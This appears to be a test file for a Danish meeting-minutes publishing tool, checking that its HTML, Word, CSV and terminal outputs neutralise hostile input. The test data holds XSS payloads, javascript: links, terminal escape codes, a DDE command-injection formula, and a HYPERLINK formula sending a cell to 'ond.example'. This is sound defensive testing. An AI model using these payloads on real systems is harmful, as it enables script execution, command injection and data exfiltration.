import assert from "node:assert/strict";
import { csvRegister } from "../../server/src/cli/registerCsv.ts";
import { textRegister } from "../../server/src/cli/registerText.ts";
import { junitReport } from "../../server/src/cli/reportJunit.ts";
import { jsonReport } from "../../server/src/cli/reportJson.ts";
import { sarifReport } from "../../server/src/cli/reportSarif.ts";
import { textReport } from "../../server/src/cli/reportText.ts";
import type { DecisionRow } from "../../server/src/archive/decisionRegister.ts";
import { docx } from "../../server/src/publishing/docx.ts";
import { html } from "../../server/src/publishing/html.ts";
import { oparlText } from "../../server/src/publishing/oparl.ts";
import { render } from "../../server/src/publishing/render.ts";
import { typst } from "../../server/src/publishing/typst.ts";
import { defaultProfile } from "../../server/src/model/profile.ts";
import { ReferatDocument } from "../../server/src/syntax/document.ts";
import { visible, visibleJson } from "../../server/src/text/visible.ts";
import { part, partsOf } from "../support/wordFile.ts";

const tags = "</title></style></script><script>alert(1)</script><img src=x onerror=alert(1)>\"'";
const links =
  "[x](javascript:alert(1)) <javascript:alert(2)> [y](data:text/html,x) [z](\\\\vært\\deling) [ud](../../x)";
const command = "\u001b]0;titel\u0007\u001b[2J\u009b31m\u202e";
const hostile = `${tags} ${links} ${command}`;
const text = `REFERAT Udvalg ${tags} d. 04-03-2026

Mødested ${hostile}

Mødedeltagere Anna ${tags} Holm, A

Punkt 1: Sag ${tags}, kl. 13.00-13.30

Sagsfremstilling

${hostile}

| a ${tags} | b |
| --- | --- |
| ${links} | c |

Beslutning

=HYPERLINK("https://ond.example/?"&A1;"klik")

Bilag

Bilag 1.1: ${tags} { HYPERLINK "https://ond.example" }.pdf
`;
const document = (): ReturnType<typeof render> =>
  render(ReferatDocument.parse(text), "referat", defaultProfile, { files: [] });

describe("words of a document that would be more than words", () => {
  it("are words on a web page, which loads nothing", () => {
    const page = html(document());
    assert.match(
      page,
      /Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri/,
    );
    // The one script is data, and no sign of it ends the element.
    assert.deepEqual(page.match(/<script[^>]*>/g), ['<script type="application/ld+json">']);
    const tagsOf =
      page.replace(/<style>[^]*?<\/style>|<script[^]*?<\/script>/g, "").match(/<[a-z][^>]*>/gi) ?? [];
    assert.ok(tagsOf.length > 20);
    for (const tag of tagsOf) {
      assert.doesNotMatch(tag, /^<(?:script|img|iframe|object|embed|link|base|form|video|audio|svg)\b/i);
      assert.doesNotMatch(tag, /\s(?:on[a-z]+|src|srcset|style|action)=/i);
      assert.doesNotMatch(tag, /href="(?!#|https?:|mailto:)[^"]*:/i);
    }
    assert.doesNotMatch(page, /@import|url\(/);
    assert.doesNotMatch(page, /href="[^"]*(?:javascript|data:|\.\.\/|%2e%2e|vært)/i);
  });

  it("are words in Word, with no field and no link of theirs", async () => {
    const parts = partsOf(await docx(document()));
    const body = part(parts, "word/document.xml");
    const rels = [...parts].filter(([path]) => path.endsWith(".rels")).map(([, xml]) => xml).join("\n"); // prettier-ignore
    assert.doesNotMatch(rels, /javascript|data:|\.\.\/\.\.|vært/i);
    assert.doesNotMatch(body, /<script|<img|w:altChunk/i);
    const fields = [...body.matchAll(/<w:instrText[^>]*>([^<]*)/g)].map(([, words = ""]) => words);
    for (const words of fields)
      assert.match(words, /^ ?(?:PAGE|NUMPAGES|PAGEREF|NOTEREF|REF|TOC|HYPERLINK \\l)/);
  });

  it("are words in OParl, and in the source of pages", () => {
    assert.doesNotMatch(oparlText(document(), { address: null }), /\u001b|\u009b/);
    const source = typst(document(), {
      layout: defaultProfile.publish.layout,
      modified: null,
      logo: null,
    });
    assert.doesNotMatch(source, /javascript:alert\(1\)"\s*,|"\\{2,}vært|\u001b/);
  });

  const row: DecisionRow = {
    uri: `${command}.referat`,
    line: 3,
    body: `Udvalg ${command}`,
    date: "2026-03-04",
    kind: "referat",
    number: 1,
    title: '@SUM(1+1)*cmd|" /C calc"!A0',
    closed: false,
    journalNumber: "+45",
    text: '=HYPERLINK("https://ond.example/?"&A1;"klik")',
    outcomes: [],
    recommendations: [],
    followUp: [],
  } as unknown as DecisionRow;

  it("are computed by no spreadsheet", () => {
    const csv = csvRegister({ decisions: [row], actions: null });
    const cells = (csv.split("\r\n")[1] ?? "").match(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g) ?? [];
    for (const cell of cells) assert.doesNotMatch(cell, /^;?"?[=+\-@\t]/);
    for (const start of ["'=HYPERLINK", "'@SUM", "'+45"]) assert.ok(csv.includes(start), start);
  });

  it("command no terminal, in whatever form they are printed", () => {
    const finding = { rule: "cpr-number", severity: "error", message: `»${command}«`, line: 1, column: 1, endLine: 1, endColumn: 2, fixable: false } as const; // prettier-ignore
    const files = [{ path: `${command}.referat`, findings: [finding] }];
    const printed = [
      textReport(files, "da", 0),
      jsonReport(files),
      sarifReport(files),
      junitReport(files),
      textRegister({ decisions: [row], actions: null }),
      csvRegister({ decisions: [row], actions: null }),
      visibleJson({ command }),
    ];
    for (const output of printed)
      assert.doesNotMatch(output, /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f]/);
    assert.equal((JSON.parse(visibleJson({ command })) as { command: string }).command, command);
    assert.equal(visible("a\r\nb\tc\rd\u001b[2J"), "a\r\nb\tc␍d␛[2J");
    assert.equal(visible("a\u007fb\u009b2J\u202ec"), "a␡b<U+009B>2J<U+202E>c");
  });
});
